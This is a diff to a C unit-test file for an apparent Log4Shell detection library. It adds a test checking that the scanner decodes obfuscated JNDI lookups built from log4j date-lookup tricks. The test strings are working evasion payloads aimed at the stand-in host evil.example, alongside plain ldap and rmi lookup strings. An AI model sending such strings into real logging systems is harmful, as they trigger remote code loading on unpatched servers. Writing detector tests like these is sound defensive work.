@@ -124,7 +124,8 @@ static void substitution_corners(void **state) {
     JNDI("${x}$$${jndi:ldap://x/a}${", "ldap://x/a");
     /* Two payloads, two lookups. */
     JNDI("${jndi:ldap://a/1} and ${jndi:rmi://b/2}", "ldap://a/1", "rmi://b/2");
-    /* date: with an unquoted letter formats the current time: no 'j'. */
+    /* date: with an illegal letter formats the time in the default format
+     * ("1/2/70, 12:00 AM"): no 'j'. */
     NONE("${${date:j}ndi:ldap://x/8}");
     /* base64 is not a 2.x lookup. */
     NONE("${base64:JHtqbmRpOmxkYXA6Ly94Lzl9}");
@@ -308,6 +309,30 @@ static void platform_constants(void **state) {
     assert_true(tech_of(in, 0, "ldap://x/\r\n") & DEFUSE_TECH_WINDOWS_ONLY);
 }
 
+/* ${date:...} never returns null (DateLookup formats the event's time, and
+ * an invalid pattern falls back to the default format), so its ":-"
+ * default is never taken; what depends on the time is evaluated at several
+ * times when the time is unknown, and says so. */
+static void dates(void **state) {
+    (void)state;
+    JNDI("${${${date:G:-}:-j}ndi:ldap://evil.example/a}", "ldap://evil.example/a");
+    JNDI("${jn${${date:':-}:-d}i:ldap://evil.example/a}", "ldap://evil.example/a");
+    /* A value that depends on the time: AM or PM. */
+    const char *in = "${jndi:ldap://x/${date:a}}";
+    assert_true(tech_of(in, 0, "ldap://x/AM") & DEFUSE_TECH_CLOCK);
+    assert_true(tech_of(in, 0, "ldap://x/PM") & DEFUSE_TECH_CLOCK);
+    /* With the time known, only what log4j requests at that time. */
+    defuse_scanner *sc = NULL;
+    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
+    defuse_scanner_set_time(sc, INT64_C(1639143930123), 0); /* 2021-12-10T13:45:30Z */
+    got g;
+    memset(&g, 0, sizeof g);
+    assert_int_equal(defuse_scan(sc, in, strlen(in), 0, collect, &g), 1);
+    assert_string_equal(g.cb[0], "ldap://x/PM");
+    assert_false(g.tech[0] & DEFUSE_TECH_CLOCK);
+    defuse_scanner_free(sc);
+}
+
 static int stop_first(const defuse_finding *f, void *user) {
     (void)f;
     (*(int *)user)++;
@@ -343,6 +368,7 @@ int main(void) {
         cmocka_unit_test(nesting_limit),   cmocka_unit_test(callback_can_stop),
         cmocka_unit_test(names),           cmocka_unit_test(contiguous_message),
         cmocka_unit_test(every_layer),     cmocka_unit_test(platform_constants),
+        cmocka_unit_test(dates),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
